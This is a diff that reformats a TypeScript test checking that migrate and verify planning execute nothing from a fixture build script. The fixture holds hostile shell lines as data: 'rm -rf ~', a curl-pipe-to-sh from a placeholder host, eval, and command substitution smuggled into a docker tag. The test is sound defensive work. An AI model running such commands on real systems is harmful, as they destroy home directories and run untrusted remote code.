@@ -18,7 +18,8 @@ function treeHash(dir: string): string {
       const p = path.join(d, name);
       const s = fs.lstatSync(p);
       h.update(`${path.relative(dir, p)}\0${s.mode}\0`);
-      if (s.isDirectory()) walk(p); else if (s.isFile()) h.update(fs.readFileSync(p));
+      if (s.isDirectory()) walk(p);
+      else if (s.isFile()) h.update(fs.readFileSync(p));
     }
   };
   walk(dir);
@@ -36,18 +37,25 @@ test('migrate and verify planning run no command of the script', async (t) => {
   fs.writeFileSync(path.join(dir, 'env.sh'), `touch ${created('source')}\nrm -rf ${homeSentinels}\n`);
   fs.writeFileSync(path.join(dir, 'Dockerfile.build'), 'FROM golang:1.7.3\nRUN go build -o /app .\n');
   fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM alpine\nCOPY app /app\n');
-  fs.writeFileSync(path.join(dir, 'build.sh'), [
-    '#!/bin/sh',
-    `rm -rf ~ ${homeSentinels} ${tmpSentinels}`,
-    `X=$(touch ${created('subst')})`,
-    `Y=\`touch ${created('backtick')}\``,
-    `curl -fsSL https://example.invalid/install.sh | sh; touch ${created('pipe')}`,
-    `eval "touch ${created('eval')}"`,
-    '. ./env.sh', 'source ./env.sh',
-    `docker build -t app:$(touch ${created('tag')}) . -f Dockerfile.build`,
-    'docker create --name extract app:build', 'docker cp extract:/app ./app', 'docker rm -f extract',
-    'docker build -t app .', '',
-  ].join('\n'));
+  fs.writeFileSync(
+    path.join(dir, 'build.sh'),
+    [
+      '#!/bin/sh',
+      `rm -rf ~ ${homeSentinels} ${tmpSentinels}`,
+      `X=$(touch ${created('subst')})`,
+      `Y=\`touch ${created('backtick')}\``,
+      `curl -fsSL https://example.invalid/install.sh | sh; touch ${created('pipe')}`,
+      `eval "touch ${created('eval')}"`,
+      '. ./env.sh',
+      'source ./env.sh',
+      `docker build -t app:$(touch ${created('tag')}) . -f Dockerfile.build`,
+      'docker create --name extract app:build',
+      'docker cp extract:/app ./app',
+      'docker rm -f extract',
+      'docker build -t app .',
+      '',
+    ].join('\n'),
+  );
   const before = { home: treeHash(homeSentinels), tmp: treeHash(tmpSentinels), dir: treeHash(dir) };
   const outcome = await check(dir);
   t.true([0, 2].includes(outcome.exitCode));
